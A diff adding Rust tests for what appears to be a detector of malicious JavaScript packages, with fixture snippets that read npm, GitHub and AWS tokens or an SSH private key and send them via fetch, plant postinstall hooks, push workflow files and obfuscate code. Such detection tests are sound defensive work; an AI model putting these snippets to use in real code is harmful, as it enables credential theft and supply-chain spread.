@@ -44,6 +44,7 @@ fn recipients_are_seen_however_they_are_set() {
         "send({ bcc: 'someone@example.com' })",
         "const schema = { bcc: z.string().describe('hidden copies, such as x@example.invalid or others, with commas') }",
         "send({ into: 'x@example.invalid' })",
+        "send({ to: 'x@example.invalid' })",
         "const author = { email: 'x@example.invalid' }",
         "log('Bcc is sent to nobody')",
     ] {
@@ -81,6 +82,23 @@ fn theft_is_seen() {
     }
 }
 
+/// In a long function things stand together by chance; what flows from one to the other does not.
+#[test]
+fn a_long_function_is_a_thief_only_where_something_flows() {
+    let pad = format!("/*{}*/", "x".repeat(7_000));
+    let families = "use([process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]);";
+    let code = |pad: &str| format!("async function go() {{ {families} {pad} await fetch(u) }}");
+    assert!(kinds(&code("")).contains(&SignKind::Theft));
+    assert!(!kinds(&code(&pad)).contains(&SignKind::Theft));
+    let flows = |sent: &str| {
+        format!(
+            "const fs = require('fs'); const k = fs.readFileSync('/home/x/.ssh/id_rsa'); {pad} fetch(u, {{ body: {sent} }})"
+        )
+    };
+    assert!(kinds(&flows("k")).contains(&SignKind::Theft));
+    assert!(!kinds(&flows("b")).contains(&SignKind::Theft));
+}
+
 #[test]
 fn code_from_the_network_is_seen() {
     for code in [
@@ -116,6 +134,7 @@ fn spreading_and_staying_are_seen() {
             "fetch(`https://api.collect.invalid/repos/${r}/contents/.github/workflows/x.yml`, { method: 'PUT' })",
             SignKind::Spreading,
         ),
+        ("fetch('https://registry.collect.invalid/-/npm/v1/tokens')", SignKind::Spreading),
         (
             "const fs = require('fs'); pkg.scripts.postinstall = 'node b.js'; fs.writeFileSync(p, JSON.stringify(pkg))",
             SignKind::Spreading,
@@ -176,6 +195,7 @@ fn hidden_code_is_seen() {
         assert!(kinds(code).contains(&SignKind::Obfuscated), "{code}: {:?}", read(code).signs);
     }
     assert!(kinds("(function(){}).constructor('debug' + 'ger')()").contains(&SignKind::Evasion));
+    let nested = format!("f({}{})", "[".repeat(250), "]".repeat(250));
     let list: Vec<String> = (0..5_000).map(|number| number.to_string()).collect();
     let aligned = format!("const a = 1;{}// a remark", " ".repeat(300));
     for code in [
@@ -187,11 +207,35 @@ fn hidden_code_is_seen() {
         "const wasm = Buffer.from('AGFzbQEAAAA=', 'base64'); new WebAssembly.Module(wasm)",
         "const hex = '\\x1b[31m' + x + '\\x1b[39m'",
         &aligned,
+        &nested,
         "const a = 'long sentence ' + 'in two parts at https://docs.collect.invalid/a'",
         "!function(e,t){var n=function(e){return e};t(n)}(this,function(e){return e})",
     ] {
         assert_eq!(kinds(code), [], "{code}");
     }
+}
+
+/// The table alone tells, whatever its names are; turning a list somewhere is no table.
+#[test]
+fn a_turned_table_of_strings_is_seen_without_numbered_names() {
+    let table = scrambled().replace("_0x", "v");
+    let told = read(&table).signs;
+    assert!(told.iter().any(|sign| sign.shown.contains("turned") && !sign.weak), "{told:?}");
+    let apart = |pad: usize| {
+        let pad = "x".repeat(pad);
+        format!("while (more()) list.push(list.shift());/*{pad}*/ f(parseInt(a) + parseInt(b) + parseInt(c))")
+    };
+    assert_eq!(kinds(&apart(1)), [SignKind::Obfuscated]);
+    assert_eq!(kinds(&apart(2_000)), []);
+}
+
+#[test]
+fn code_in_text_that_is_run_is_read_twice_deep() {
+    let inner = |code: &str| format!("eval({})", serde_json::to_string(code).expect("text"));
+    let network = "require('net').connect(80)";
+    let does = |code: &str| read(code).deeds.contains_key(&Deed::Network);
+    assert!(does(network) && does(&inner(network)) && does(&inner(&inner(network))));
+    assert!(!does(&inner(&inner(&inner(network)))), "a bound, so that text in text ends");
 }
 
 #[test]
